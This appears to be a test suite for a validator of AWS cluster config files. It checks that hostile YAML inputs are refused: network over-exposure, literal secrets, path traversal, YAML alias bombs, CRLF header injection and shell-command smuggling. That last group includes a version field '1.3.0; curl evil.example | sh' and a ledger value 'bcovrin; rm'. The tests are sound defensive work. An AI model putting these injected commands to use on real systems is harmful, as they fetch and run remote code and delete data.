// A hostile contributor's cluster files, class by class: each is refused before any AWS call with a
// located message that names the field, or (where the file is acceptable) loudly warned about.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { loadClusterFile, MAX_CLUSTER_FILE_BYTES, parseClusterText } from '../../src/config/load.js';
import { formatPath } from '../../src/config/problems.js';
import { exampleText, exampleWith, problemsOf } from '../fixtures/cluster-files.js';

const CERT = 'arn:aws:acm:us-east-1:123456789012:certificate/0a1b2c3d-4e5f-6789-abcd-ef0123456789';
const problemsOfHostile = (text: string) => problemsOf(text, 'clusters/hostile.yml');

/** "path: message" of every error, each checked to carry a file and a line. */
function refusals(text: string): string[] {
  const problems = problemsOfHostile(text);
  for (const p of problems) {
    expect(p.file).toBe('clusters/hostile.yml');
    expect(p.line).toBeGreaterThan(0);
  }
  return problems.filter((p) => p.severity === 'error').map((p) => `${formatPath(p.path)}: ${p.message}`);
}

type Case = [title: string, text: string, expected: RegExp];
const edit = (path: (string | number)[], value: unknown) => exampleWith([path, value]);

const CLASSES: Record<string, Case[]> = {
  network: [
    [
      'two /1 halves that make the whole internet',
      edit(['access', 'operatorCidrs'], ['0.0.0.0/1', '128.0.0.0/1']),
      /^access\.operatorCidrs: these ranges together open .* 4294967296 addresses/,
    ],
    [
      'many /9 ranges whose union exceeds a /8',
      edit(['access', 'operatorCidrs'], ['10.0.0.0/9', '20.0.0.0/9', '30.0.0.0/9']),
      /^access\.operatorCidrs: these ranges together open .* 25165824 addresses/,
    ],
    [
      'the whole internet as the VPC range (Postgres, Redis, tails and mediator ports)',
      edit(['network', 'vpcCidrs'], ['0.0.0.0/0']),
      /^network\.vpcCidrs\[0\]: 0\.0\.0\.0\/0 is not a private range/,
    ],
    [
      'a public range as the VPC range',
      edit(['network', 'vpcCidrs'], ['8.8.8.0/24']),
      /^network\.vpcCidrs\[0\]: 8\.8\.8\.0\/24 is not a private range/,
    ],
    [
      'a non-canonical CIDR',
      edit(['access', 'operatorCidrs'], ['203.0.113.7/24']),
      /^access\.operatorCidrs\[0\]: 203\.0\.113\.7\/24 has host bits set/,
    ],
    [
      'a private range that only starts inside 10/8',
      edit(['network', 'vpcCidrs'], ['10.0.0.0/7']),
      /^network\.vpcCidrs\[0\]: 10\.0\.0\.0\/7 is not a private range/,
    ],
  ],
  secrets: [
    [
      'a wallet seed in the environment',
      edit(['acapy', 'environment'], { WALLET_SEED: '000000000000000000000000Steward1' }),
      /^acapy\.environment\.WALLET_SEED: a secret written as a literal value/,
    ],
    [
      'a key under an innocent name, recognised by its randomness',
      edit(['locust', 'environment'], { EXTRA_SETTING: 'q8Zr2LxV9mK4tW7pN3sY6bC1dF5gH0jA' }),
      /^locust\.environment\.EXTRA_SETTING: a secret written as a literal value \(it looks like a long random token\)/,
    ],
    [
      'a hex seed in a tag',
      edit(['tags'], {
        type: 'Perf',
        note: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
      }),
      /^tags\.note: a secret written as a literal value \(it looks like a hex key or seed\)/,
    ],
    [
      'a private key in the message',
      edit(['locust', 'messageToSend'], '-----BEGIN PRIVATE KEY----- MIIE'),
      /^locust\.messageToSend: a secret written as a literal value/,
    ],
    [
      'an *_KEY environment entry',
      edit(['acapy', 'environment'], { ISSUER_KEY: 'abc' }),
      /^acapy\.environment\.ISSUER_KEY: a secret written as a literal value/,
    ],
    [
      'credentials in the genesis URL',
      edit(['acapy', 'genesisUrl'], 'https://user:hunter2@example.org/genesis'),
      /^acapy\.genesisUrl: the URL carries credentials/,
    ],
    [
      'a GitHub token',
      edit(['locust', 'environment'], { NOTE: 'ghp_0123456789abcdefghijABCDEFGHIJ' }),
      /^locust\.environment\.NOTE: a secret written as a literal value \(it has the shape of a token/,
    ],
  ],
  selectors: [
    [
      'a wildcard tag value that would match any instance',
      edit(['images', 'locust'], { tags: { Name: '*' } }),
      /^images\.locust\.tags\.Name: expected a tag value of letters/,
    ],
    [
      'a single-character wildcard',
      edit(['locust', 'master', 'instance'], { tags: { Name: 'akrida-?' } }),
      /^locust\.master\.instance\.tags\.Name: expected a tag value of letters/,
    ],
    [
      'an empty tag value',
      edit(['images', 'acapy'], { tags: { Name: '' } }),
      /^images\.acapy\.tags\.Name: expected at least 1 characters/,
    ],
    [
      'an instance id with a wildcard',
      edit(['images', 'acapy'], { instanceId: 'i-*' }),
      /^images\.acapy\.instanceId: expected an instance id/,
    ],
  ],
  'size and time': [
    [
      'NaN',
      edit(['loadTest', 'spawnRate'], Number.NaN),
      /^loadTest\.spawnRate: expected a finite number, got NaN/,
    ],
    [
      'Infinity',
      `${exampleText().replace('runTimeSeconds: 600', 'runTimeSeconds: .inf')}`,
      /^loadTest\.runTimeSeconds: expected a finite number, got Infinity/,
    ],
    [
      'a float for an integer',
      edit(['loadTest', 'users'], 1.5),
      /^loadTest\.users: expected a whole number, got 1\.5/,
    ],
    [
      'more tags than AWS allows',
      edit(['tags'], Object.fromEntries(Array.from({ length: 41 }, (_, i) => [`t${i}`, 'v']))),
      /^tags: at most 40 extra tags/,
    ],
    [
      'an alias with no anchor',
      `${exampleText()}extra: *nowhere\n`,
      /^\(file\): the alias \*nowhere names no anchor/,
    ],
    [
      'an alias bomb',
      `a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n`,
      /^\(file\): the aliases expand too far/,
    ],
    [
      'a file over the size cap',
      `${exampleText()}# ${'x'.repeat(MAX_CLUSTER_FILE_BYTES)}\n`,
      /^\(file\): the file is \d+ bytes; a cluster file may be at most 262144 bytes/,
    ],
    [
      'brackets nested past the parser',
      `name: ${'['.repeat(50_000)}\n`,
      /^\(file\): the YAML nests brackets more than 16 deep/,
    ],
    [
      'thousands of small bracketed lists',
      `${exampleText()}${Array.from({ length: 1500 }, (_, i) => `k${i}: [[]]`).join('\n')}\n`,
      /^\(file\): more than 1000 bracketed lists and mappings/,
    ],
    [
      'thousands of aliases',
      `a: &a x\nl: [${Array.from({ length: 20_000 }, () => '*a').join(',')}]\n`,
      /^\(file\): more than 100 aliases/,
    ],
  ],
  cron: [
    [
      'fields out of range',
      edit(['teardown', 'schedule'], '99 25 * * 9'),
      /^teardown\.schedule: expected a 5-field cron/,
    ],
    [
      'every minute',
      edit(['teardown', 'schedule'], '* * * * *'),
      /^teardown\.schedule: GitHub runs schedules at most every 5 minutes/,
    ],
    [
      'four fields',
      edit(['teardown', 'schedule'], '0 20 * *'),
      /^teardown\.schedule: expected a 5-field cron/,
    ],
    [
      'a step of zero',
      edit(['teardown', 'schedule'], '*/0 20 * * *'),
      /^teardown\.schedule: expected a 5-field cron/,
    ],
  ],
  paths: [
    [
      '.. in the checkout directory',
      edit(['source', 'directory'], '/home/ubuntu/../../etc'),
      /^source\.directory: expected an absolute path/,
    ],
    [
      'a relative ACA-Py directory',
      edit(['source', 'acapyDirectory'], 'home/ubuntu'),
      /^source\.acapyDirectory: expected an absolute path/,
    ],
    [
      '.. in a compose file',
      edit(['source', 'compose', 'master'], 'x/../../root.yml'),
      /^source\.compose\.master: expected a file name relative/,
    ],
    [
      '.. in a parameter name',
      edit(['acapy', 'secrets', 'walletAccount'], { parameter: '/akrida/../other-team/key' }),
      /^acapy\.secrets\.walletAccount\.parameter: expected a Parameter Store name/,
    ],
    [
      'a parameter under AWS’s reserved prefix',
      edit(['acapy', 'secrets', 'walletAccount'], { parameter: '/aws/reference/secretsmanager/x' }),
      /^acapy\.secrets\.walletAccount\.parameter: names under \/aws and \/ssm are reserved/,
    ],
    [
      'a hidden locustfile',
      edit(['source', 'locustFiles'], ['.hidden.py']),
      /^source\.locustFiles\[0\]: expected a file name relative/,
    ],
  ],
  // Every parameter a file names is granted to the instance role: only the cluster's own.
  parameters: [
    [
      "another team's parameter",
      edit(['acapy', 'secrets', 'walletAccount'], { parameter: '/prod/db/password' }),
      /^acapy\.secrets\.walletAccount\.parameter: \/prod\/db\/password is outside this cluster's parameters \(\/akrida\/perf-example\/ or \/akrida-ops\/perf-example\/\)/,
    ],
    [
      "another cluster's parameter under /akrida",
      edit(['acapy', 'secrets', 'adminApiKey'], { parameter: '/akrida/other-team/acapy-admin-api-key' }),
      /^acapy\.secrets\.adminApiKey\.parameter: \/akrida\/other-team\/acapy-admin-api-key is outside/,
    ],
    [
      "another cluster's copied secret under /akrida-ops",
      edit(['acapy', 'secrets', 'walletPassword'], { parameter: '/akrida-ops/other-team/generated/x' }),
      /^acapy\.secrets\.walletPassword\.parameter: .* is outside this cluster's parameters/,
    ],
    [
      'a look-alike prefix (the cluster name with more after it)',
      edit(['acapy', 'secrets', 'walletAccount'], { parameter: '/akrida/perf-example-evil/key' }),
      /^acapy\.secrets\.walletAccount\.parameter: .* is outside/,
    ],
    [
      'the prefix itself, no name under it',
      edit(['acapy', 'secrets', 'walletAccount'], { parameter: '/akrida/perf-example' }),
      /^acapy\.secrets\.walletAccount\.parameter: .* is outside/,
    ],
    [
      'the prefix in other letter case (parameter names are case-sensitive)',
      edit(['acapy', 'secrets', 'walletAccount'], { parameter: '/AKRIDA/perf-example/key' }),
      /^acapy\.secrets\.walletAccount\.parameter: .* is outside/,
    ],
    [
      'a bearer header read from elsewhere',
      edit(['locust', 'issuer', 'headers'], { Authorization: { parameter: '/shared/issuer-token' } }),
      /^locust\.issuer\.headers\.Authorization\.parameter: \/shared\/issuer-token is outside/,
    ],
  ],
  names: [
    ['an upper-case cluster name', edit(['name'], 'Perf'), /^name: expected 3-22 characters/],
    ['a cluster name with a newline', edit(['name'], 'perf\nx'), /^name: expected 3-22 characters/],
    [
      'a tag key AWS reserves',
      edit(['tags'], { 'aws:cloudformation:stack-name': 'x' }),
      /^tags\.aws:cloudformation:stack-name: tag keys starting with aws: are AWS-reserved/,
    ],
    [
      'a tag key the toolkit owns',
      edit(['tags'], { 'akrida:cluster': 'other' }),
      /^tags\.akrida:cluster: the toolkit writes the tag akrida:cluster itself/,
    ],
    [
      'a NUL in a tag value',
      edit(['tags'], { team: 'a\u0000b' }),
      /^tags\.team: expected a tag value of letters/,
    ],
    [
      'a right-to-left override in a tag value',
      edit(['tags'], { team: 'abc\u202Egpj.exe' }),
      /^tags\.team: expected a tag value of letters/,
    ],
    [
      'a header name with CR/LF',
      edit(['locust', 'issuer', 'headers'], { 'X-A\r\nHost: evil': { githubSecret: 'T' } }),
      /^locust\.issuer\.headers\."X-A\\r\\nHost: evil": expected an HTTP header name/,
    ],
    [
      'a compose service with a newline',
      edit(['source', 'locustService'], 'agent\n  evil:'),
      /^source\.locustService: expected a compose service name/,
    ],
    [
      'a URL that compose would interpolate in the .env',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text is the attack
      edit(['acapy', 'genesisUrl'], 'https://example.org/${ACAPY_ADMIN_API_KEY}'),
      /^acapy\.genesisUrl: the URL has \$, a backtick/,
    ],
    [
      'a ledger with spaces',
      edit(['locust', 'ledger'], 'bcovrin; rm'),
      /^locust\.ledger: expected a ledger name/,
    ],
    [
      'a health path with CR/LF',
      edit(['acapy', 'healthCheck'], { adminPath: '/status\r\nX: y' }),
      /^acapy\.healthCheck\.adminPath: expected an HTTP path/,
    ],
  ],
  'the ACA-Py that runs': [
    [
      'an ACA-Py version with a shell word',
      edit(['acapy', 'version'], '1.3.0; curl evil.example | sh'),
      /^acapy\.version: expected an ACA-Py release such as 1\.3\.0/,
    ],
    [
      'an ACA-Py version with a newline (a second arg-file line)',
      edit(['acapy', 'version'], '1.3.0\nwallet-type: x'),
      /^acapy\.version: expected an ACA-Py release such as 1\.3\.0/,
    ],
    [
      'a wallet type that would write a second arg-file setting',
      edit(['acapy', 'walletType'], 'askar\nadmin-insecure-mode: true'),
      /^acapy\.walletType: expected one of "askar", "askar-anoncreds", "kanon-anoncreds"/,
    ],
    [
      'IS_ANONCREDS that the wallet cannot issue in',
      exampleWith([['acapy', 'walletType'], 'askar'], [['locust', 'isAnoncreds'], true]),
      /^locust\.isAnoncreds: IS_ANONCREDS=True, but acapy\.walletType askar cannot issue/,
    ],
    [
      "Akrida's worker compose file that cannot build at the pinned commit",
      edit(['source', 'compose', 'worker'], 'worker.docker-compose.yml'),
      /^source\.compose\.worker: Akrida 404c7a16fd7cedc85fa24c14851affc22878749c's worker\.docker-compose\.yml cannot run/,
    ],
  ],
  'security review (issue 25, row 12)': [
    [
      'an operator range with leading zeros (octal to some parsers)',
      edit(['access', 'operatorCidrs'], ['010.000.000.000/8']),
      /^access\.operatorCidrs\[0\]: expected an IPv4 CIDR without leading zeros/,
    ],
    [
      'a VPC range with a leading zero',
      edit(['network', 'vpcCidrs'], ['10.0.00.0/16']),
      /^network\.vpcCidrs\[0\]: expected an IPv4 CIDR without leading zeros/,
    ],
    [
      'a genesis file over plain http (the ledger trust root, open to anyone on the path)',
      edit(['acapy', 'genesisUrl'], 'http://test.bcovrin.vonx.io/genesis'),
      /^acapy\.genesisUrl: expected the ledger genesis URL over https/,
    ],
    [
      'a DID registration endpoint over plain http',
      exampleWith(
        [['machines'], { issuer: { registerUrl: 'http://test.bcovrin.vonx.io/register' }, database: {} }],
        [['acapy', 'databaseHost']],
      ),
      /^machines\.issuer\.registerUrl: expected the ledger registration endpoint over https/,
    ],
  ],
  'security review (issue 25, row 10): the admin API key over the internet': [
    [
      'an internet-facing admin load balancer without TLS',
      edit(['acapy', 'loadBalancerScheme'], 'internet-facing'),
      /^acapy\.loadBalancerScheme: an internet-facing admin load balancer would carry the ACA-Py admin API key over plain HTTP/,
    ],
    [
      "a certificate of another region (ELBv2 takes only its own region's)",
      edit(['acapy', 'adminTls'], {
        certificateArn: CERT.replace(':us-east-1:', ':eu-west-1:'),
        hostName: 'acapy-admin.example.org',
      }),
      /^acapy\.adminTls\.certificateArn: the certificate is in eu-west-1; a load balancer in us-east-1/,
    ],
    [
      'an IAM server certificate in place of an ACM one',
      edit(['acapy', 'adminTls'], {
        certificateArn: 'arn:aws:iam::123456789012:server-certificate/admin',
        hostName: 'acapy-admin.example.org',
      }),
      /^acapy\.adminTls\.certificateArn: expected an ACM certificate ARN/,
    ],
    [
      'an address for a host name no certificate can name',
      edit(['acapy', 'adminTls'], { certificateArn: CERT, hostName: '10.0.1.20' }),
      /^acapy\.adminTls\.hostName: 10\.0\.1\.20 is an address/,
    ],
  ],
  'numbers and limits': [
    [
      'a TTL of seconds',
      edit(['teardown', 'ttlHours'], 0.001),
      /^teardown\.ttlHours: expected at least 1 hour/,
    ],
    [
      'a health-check timeout at its interval',
      edit(['acapy', 'healthCheck'], { timeoutSeconds: 30, intervalSeconds: 30 }),
      /^acapy\.healthCheck\.timeoutSeconds: the health-check timeout \(30 s\) must be shorter than its interval/,
    ],
    [
      'unbounded ACA-Py capacity',
      edit(['acapy', 'capacity'], { min: 1, desired: 1, max: 5000 }),
      /^acapy\.capacity\.max: expected at most 50/,
    ],
  ],
};

test('an internet-facing admin load balancer with an ACM certificate of its region is accepted', () => {
  const text = exampleWith(
    [['acapy', 'loadBalancerScheme'], 'internet-facing'],
    [['acapy', 'adminTls'], { certificateArn: CERT, hostName: 'acapy-admin.example.org' }],
  );
  expect(parseClusterText(text, 'clusters/perf-example.yml').cluster.acapy.adminTls?.certificateArn).toBe(
    CERT,
  );
});

describe.each(Object.entries(CLASSES))('hostile cluster files: %s', (_cls, cases) => {
  test('at least three cases', () => expect(cases.length).toBeGreaterThanOrEqual(3));
  test.each(cases)('%s', (_title, text, expected) => {
    const errors = refusals(text);
    expect(errors.some((e) => expected.test(e))).toBe(true);
  });
});

test("parameters under the cluster's own prefixes are accepted, and the refusal says what to do", () => {
  const own = exampleWith(
    [['acapy', 'secrets', 'walletAccount'], { parameter: '/akrida-ops/perf-example/wallet-account' }],
    [['acapy', 'secrets', 'adminApiKey'], { parameter: '/akrida/perf-example/team/api-key' }],
  );
  expect(parseClusterText(own, 'clusters/perf-example.yml').cluster.name).toBe('perf-example');
  const [p] = problemsOfHostile(
    edit(['acapy', 'secrets', 'walletAccount'], { parameter: '/prod/db/password' }),
  );
  expect(p?.line).toBe(
    exampleText()
      .split('\n')
      .findIndex((l) => l.includes('walletAccount:')) + 1,
  );
  expect(p?.hint).toBe(
    'store the value as /akrida/perf-example/password and name that, or use { githubSecret: NAME } or { generated: name }',
  );
});

describe('hostile input at the file level', () => {
  test('a 10 MB file is refused from its size, without being parsed', () => {
    const dir = mkdtempSync(join(tmpdir(), 'akrida-hostile-'));
    const file = join(dir, 'big.yml');
    writeFileSync(file, `tags:\n${'  t: v\n'.repeat(1_500_000)}`);
    expect(() => loadClusterFile(file)).toThrow(
      /the file is 10500006 bytes; a cluster file may be at most 262144 bytes/,
    );
  });

  test('thousands of unknown keys get a bounded answer', () => {
    const text = `${exampleText()}${Array.from({ length: 5000 }, (_, i) => `junk${i}: 1`).join('\n')}\n`;
    const problems = problemsOfHostile(text);
    expect(problems.length).toBeLessThanOrEqual(51);
    expect(problems.at(-1)?.message).toMatch(/^and \d+ more (unknown fields|problems)$/);
  });

  test('0.0.0.0/0 with the explicit opt-in is accepted, with a warning', () => {
    const { warnings } = parseClusterText(
      exampleWith([['access'], { operatorCidrs: ['0.0.0.0/1', '128.0.0.0/1'], allowAnywhere: true }]),
      'c.yml',
    );
    expect(warnings.map((w) => w.message)).toEqual([
      'these ranges open the ACA-Py admin listener and Locust UI to 100 % of the IPv4 internet',
    ]);
  });

  test("GitHub's month and day names are accepted", () => {
    expect(() =>
      parseClusterText(edit(['teardown', 'schedule'], '0 20 * JAN-DEC MON-FRI'), 'c.yml'),
    ).not.toThrow();
  });
});
